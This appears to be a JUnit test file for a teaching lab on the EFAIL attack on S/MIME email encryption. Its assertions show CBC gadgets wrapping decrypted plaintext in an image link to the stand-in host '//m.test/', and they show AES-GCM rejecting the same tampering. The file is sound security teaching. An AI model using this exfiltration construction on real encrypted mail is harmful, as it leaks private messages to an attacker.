package org.envelopelab.smime;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class EfailLessonTest {

    @Test
    void anAttackerWithoutTheKeyWrapsTheWholePlaintextInAnImageLink() throws Exception {
        EfailReport report = EfailLesson.run(People.BOB);
        String decrypted = report.cbcDecrypted();

        assertThat(report.knownBlock()).isEqualTo("Content-Type: te");
        assertThat(report.cbcDecryptedWithoutError()).isTrue();
        // chosen, garbage, chosen, garbage, the original text, garbage, chosen (its padding stripped)
        assertThat(decrypted.substring(0, 16)).isEqualTo("<img alt=\"mail  ");
        assertThat(decrypted.substring(32, 48)).isEqualTo("\" src=\"//m.test/");
        assertThat(decrypted.substring(64)).startsWith(report.original());
        assertThat(decrypted).endsWith("\">");
        assertThat(report.original()).contains("Bob, we sign with Fabrikam on Friday.");
        assertThat(report.url()).startsWith("//m.test/").contains(report.original());
        assertThat(report.plaintextInUrl()).isTrue();
    }

    @Test
    void theSameChangeToAGcmMessageFailsTheTagCheck() throws Exception {
        EfailReport report = EfailLesson.run(People.CAROL);

        assertThat(report.gcmOutcome()).isEqualTo("the authentication tag does not match: the ciphertext was changed");
        assertThat(report.aeadStoppedWhatCbcAllowed()).isTrue();
    }

    @Test
    void theNarrationSaysExactlyWhatTheGadgetsBuild() throws Exception {
        EfailReport report = EfailLesson.run();

        assertThat(report.narrate().lines().toList()).hasSizeGreaterThanOrEqualTo(8)
                .anySatisfy(line -> assertThat(line).contains("a chosen block, a garbage block, a chosen block, a garbage block,"
                        + " Alice's whole text"))
                .anySatisfy(line -> assertThat(line).contains("decrypts it without any error"))
                .anySatisfy(line -> assertThat(line).startsWith("   <img alt=\"mail  [16 garbage bytes]\" src=\"//m.test/[16 garbage bytes]"
                        + "Content-Type: text/plain").contains("Bob, we sign with Fabrikam on Friday.").endsWith("[16 garbage bytes]\">"))
                .anySatisfy(line -> assertThat(line).contains("//m.test/ followed by Alice's whole text"))
                .anySatisfy(line -> assertThat(line).contains("quote mark"))
                .anySatisfy(line -> assertThat(line).contains("AES-256-GCM").contains("the authentication tag does not match"));
    }
}
